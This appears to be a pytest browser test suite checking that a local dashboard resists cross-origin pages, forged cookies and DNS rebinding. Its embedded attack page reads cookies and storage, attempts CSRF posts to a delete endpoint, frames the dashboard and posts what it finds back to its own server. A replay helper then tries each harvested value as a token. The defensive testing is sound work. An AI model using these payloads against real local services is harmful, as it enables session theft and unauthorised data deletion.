"""What the other web origins a browser visits can do to the dashboard, in real Chromium:
another server on this machine (another port of 127.0.0.1), a page on the internet, and a
DNS-rebinding page. After the dashboard was opened in the same browser, each gets every
header, cookie and script result it can, and uses them all: none reads or changes the
memory, and the dashboard still opens, whatever cookies they left for 127.0.0.1."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from mtl_mcp.dashboard.guard import SESSION_HEADER
from tests.dashboard.conftest import CHROMIUM, Dashboard, watch

pytestmark = [pytest.mark.slow, pytest.mark.browser]
TABLE = "table[aria-label=Insights] tbody tr"
# Chromium resolves these names to 127.0.0.1: a page "on the internet", and one whose name
# its owner re-pointed at this machine (DNS rebinding).
INTERNET, REBINDING = "internet.test", "rebind.test"
ODD_COOKIES = [
    'prefs={"theme":"dark"}',  # what locked users out: SimpleCookie stopped at it
    'quoted="unterminated',
    "=no-name",
    "commas=a,b,c",
    "mtl_dashboard_{port}=forged",
    "x-mtl-session=forged",
    "session=forged",
    "big=" + "b" * 3000,
]
# The page another origin serves: it reads what it can, tries the dashboard's API every
# way a page can, leaves its cookies for the host, and reports it all back.
ATTACK = """<!doctype html><meta charset="utf-8"><title>another app</title><script>
const dash = "{dash}", id = "{id}", report = [];
const note = (what, value) => report.push([what, String(value)]);
async function attempt(what, work) {{
  try {{ note(what, await work()); }} catch (error) {{ note(what, "refused: " + error); }}
}}
(async () => {{
  note("cookie", document.cookie);
  note("sessionStorage", JSON.stringify({{...sessionStorage}}));
  note("localStorage", JSON.stringify({{...localStorage}}));
  const forget = JSON.stringify({{confirm: id}});
  await attempt("cors", () => fetch(dash + "/api/insights", {{credentials: "include"}})
    .then((r) => r.text()));
  await attempt("no-cors", () => fetch(dash + "/api/insights", {{mode: "no-cors",
    credentials: "include"}}).then((r) => r.type + " " + r.status));
  await attempt("session", () => fetch(dash + "/api/session", {{credentials: "include"}})
    .then((r) => r.text()));
  await attempt("forget", () => fetch(dash + "/api/insights/" + id + "/forget", {{
    method: "POST", mode: "no-cors", credentials: "include", body: forget,
    headers: {{"content-type": "text/plain"}}}}).then((r) => r.type));
  const form = Object.assign(document.createElement("form"), {{method: "POST",
    action: dash + "/api/insights/" + id + "/forget", target: "sink",
    enctype: "text/plain"}});
  form.append(Object.assign(document.createElement("input"), {{name: forget, value: ""}}));
  const sink = Object.assign(document.createElement("iframe"), {{name: "sink"}});
  document.body.append(sink, form);
  await new Promise((done) => {{ sink.onload = done; form.submit(); setTimeout(done, 3000); }});
  const framed = Object.assign(document.createElement("iframe"), {{src: dash + "/"}});
  document.body.append(framed);
  await new Promise((done) => {{ framed.onload = done; setTimeout(done, 3000); }});
  await attempt("frame", () => framed.contentDocument.body.innerText);
  const opened = window.open(dash + "/");
  await new Promise((done) => setTimeout(done, 1500));
  await attempt("window", () => opened.document.body.innerText);
  await attempt("window storage", () => JSON.stringify({{...opened.sessionStorage}}));
  if (opened) opened.close();
  for (const cookie of {cookies}) document.cookie = cookie + "; path=/";
  note("cookie after", document.cookie);
  await fetch("/report", {{method: "POST", body: JSON.stringify(report)}});
}})();
</script><body><p>another app</p></body>"""


class Recorder(http.server.ThreadingHTTPServer):
    """Another app's server: it records every request's headers, and what its page found."""

    def __init__(self, page: str) -> None:
        super().__init__(("127.0.0.1", 0), Handler)
        self.page = page
        self.headers: list[dict[str, str]] = []
        self.reports: list[list[list[str]]] = []
        self.reported = threading.Event()


class Handler(http.server.BaseHTTPRequestHandler):
    server: Recorder

    def do_GET(self) -> None:
        self.server.headers.append(dict(self.headers))
        self.answer(self.server.page if self.path == "/attack" else "nothing here")

    def do_POST(self) -> None:
        self.server.headers.append(dict(self.headers))
        body = self.rfile.read(int(self.headers.get("content-length") or 0))
        self.server.reports.append(json.loads(body))
        self.server.reported.set()
        self.answer("thanks")

    def answer(self, text: str) -> None:
        data = text.encode()
        self.send_response(200)
        self.send_header("content-type", "text/html; charset=utf-8")
        self.send_header("content-length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def mapped(browser: Any) -> Iterator[Any]:
    """A Chromium that resolves INTERNET and REBINDING to 127.0.0.1."""
    rules = f"MAP {INTERNET} 127.0.0.1, MAP {REBINDING} 127.0.0.1"
    chromium = browser.browser_type.launch(
        executable_path=str(CHROMIUM), args=["--no-sandbox", f"--host-resolver-rules={rules}"]
    )
    yield chromium
    chromium.close()


def another_link(dashboard: Dashboard) -> str:
    """A link to a dashboard, as `mtl-mcp ui` prints it (whatever its form)."""
    return dashboard.cli("ui", "--no-browser").stdout.split(": ", 1)[1].strip()


def words_in(recorder: Recorder) -> set[str]:
    """Everything the other origin received or read: header values, cookie names and
    values, and the words of what its script found."""
    words: set[str] = set()
    texts = [v for headers in recorder.headers for v in headers.values()]
    texts += [value for report in recorder.reports for _, value in report]
    for text in texts:
        words.add(text)
        words.update(re.split(r"[\s;,=\"'{}:\[\]]+", text))
    return {w for w in words if len(w) >= 8}


def replayed(base: str, recorder: Recorder, insight: str) -> list[tuple[str, int]]:
    """Every way a program (no browser rules: it sends any Origin) can use what the other
    origin got: each word as the session, a code, a cookie, a query; each Cookie header as
    received. The statuses of reading the memory, reading the session and forgetting."""
    cookies = [h[k] for h in recorder.headers for k in h if k.lower() == "cookie"]
    tries: list[dict[str, Any]] = [{"headers": {"cookie": c}} for c in cookies]
    for word in words_in(recorder):
        tries += [
            {"headers": {SESSION_HEADER: word}},
            {"headers": {"cookie": f"{word}={word}"}},
            {"params": {"token": word, "code": word, "session": word}},
            {"code": word},
        ]
    seen = []
    with httpx.Client(base_url=base, headers={"origin": base}, timeout=60) as http:
        for attempt in tries:
            if "code" in attempt:
                seen.append(("code", http.post("/api/session", json=attempt).status_code))
                continue
            for method, path, body in (
                ("GET", "/api/insights", None),
                ("GET", "/api/session", None),
                ("POST", f"/api/insights/{insight}/forget", {"confirm": insight}),
            ):
                answer = http.request(method, path, json=body, **attempt)
                seen.append((f"{method} {path} {attempt}"[:160], answer.status_code))
    return seen


@pytest.mark.parametrize("where", ["127.0.0.1", INTERNET], ids=["another-port", "internet"])
def test_another_origin_the_browser_visits_cannot_read_or_change_the_memory(
    mapped: Any, dashboard: Dashboard, where: str
) -> None:
    """The user opens the dashboard, then in the same tab (and in another) a page of
    another app; that app's server and page use all they get. Then the user's tab
    reloads, and a new link opens, with the other app's cookies in the browser."""
    link = another_link(dashboard)
    base = f"http://{urlsplit(link).netloc}"
    listed = dashboard.cli_json("list", "--limit", "100")["items"]
    insight = listed[0]["id"]
    cookies = [c.replace("{port}", str(urlsplit(link).port)) for c in ODD_COOKIES]
    recorder = Recorder(ATTACK.format(dash=base, id=insight, cookies=json.dumps(cookies)))
    threading.Thread(target=recorder.serve_forever, daemon=True).start()
    attack = f"http://{where}:{recorder.server_address[1]}/attack"
    context = mapped.new_context()
    try:
        tab = context.new_page()
        errors = watch(tab)
        tab.goto(link)
        tab.wait_for_selector(TABLE)
        for opened in (tab, context.new_page()):
            recorder.reported.clear()
            opened.goto(attack)
            assert recorder.reported.wait(30), "the other app's page did not report"

        seen = replayed(base, recorder, insight)
        assert {status for _, status in seen} <= {401, 403}, [s for s in seen if s[1] < 400]
        found = " ".join(v for report in recorder.reports for _, v in report)
        assert not [i["title"] for i in listed if i["title"] in found]  # read nothing
        assert dashboard.cli("show", insight, check=False).returncode == 0  # forgot nothing

        errors.clear()  # the other app's page logged its refusals in this tab
        tab.goto(f"{base}/")  # back to the dashboard: the tab's session still opens it
        tab.wait_for_selector(TABLE)
        tab.reload()
        tab.wait_for_selector(TABLE)
        assert errors == [], errors
        fresh = context.new_page()  # a new link, with the other app's cookies in the jar
        fresh.goto(another_link(dashboard))
        fresh.wait_for_selector(TABLE)
    finally:
        context.close()
        recorder.shutdown()
        recorder.server_close()


def test_the_cookies_other_apps_leave_do_not_lock_you_out(
    mapped: Any, dashboard: Dashboard
) -> None:
    """A page on another port leaves odd cookies for 127.0.0.1 (the one that locked users
    out: `prefs={"theme":"dark"}`); then a link opens the dashboard, and a reload keeps it."""
    link = another_link(dashboard)
    cookies = [c.replace("{port}", str(urlsplit(link).port)) for c in ODD_COOKIES]
    setter = (
        f"<!doctype html><title>other</title><script>for (const c of {json.dumps(cookies)})"
        " document.cookie = c + '; path=/'; fetch('/report', {method: 'POST', body: '[]'});"
        "</script>"
    )
    recorder = Recorder(setter)
    threading.Thread(target=recorder.serve_forever, daemon=True).start()
    context = mapped.new_context()
    try:
        tab = context.new_page()
        tab.goto(f"http://127.0.0.1:{recorder.server_address[1]}/attack")
        assert recorder.reported.wait(30)
        assert len(context.cookies("http://127.0.0.1/")) >= 5
        tab.goto(link)
        tab.wait_for_selector(TABLE)
        tab.reload()
        tab.wait_for_selector(TABLE)
    finally:
        context.close()
        recorder.shutdown()
        recorder.server_close()


def test_a_dns_rebinding_page_gets_nothing(mapped: Any, dashboard: Dashboard) -> None:
    """A page whose own name now resolves to 127.0.0.1, on the dashboard's port: the page,
    the API and a code's exchange are all refused (421), and the code still works."""
    link = another_link(dashboard)
    port = urlsplit(link).port
    rebound = f"http://{REBINDING}:{port}"
    context = mapped.new_context()
    try:
        tab = context.new_page()
        answer = tab.goto(f"{rebound}/")
        assert answer is not None and answer.status == 421
        statuses = tab.evaluate(
            """async ([code]) => [
                (await fetch("/api/insights")).status,
                (await fetch("/api/session", {method: "POST", body: JSON.stringify({code}),
                    headers: {"content-type": "application/json"}})).status,
            ]""",
            [link.split("code=", 1)[-1]],
        )
        assert statuses == [421, 421]
        tab.goto(link)  # the same link, opened on 127.0.0.1: unused, it opens
        tab.wait_for_selector(TABLE)
    finally:
        context.close()
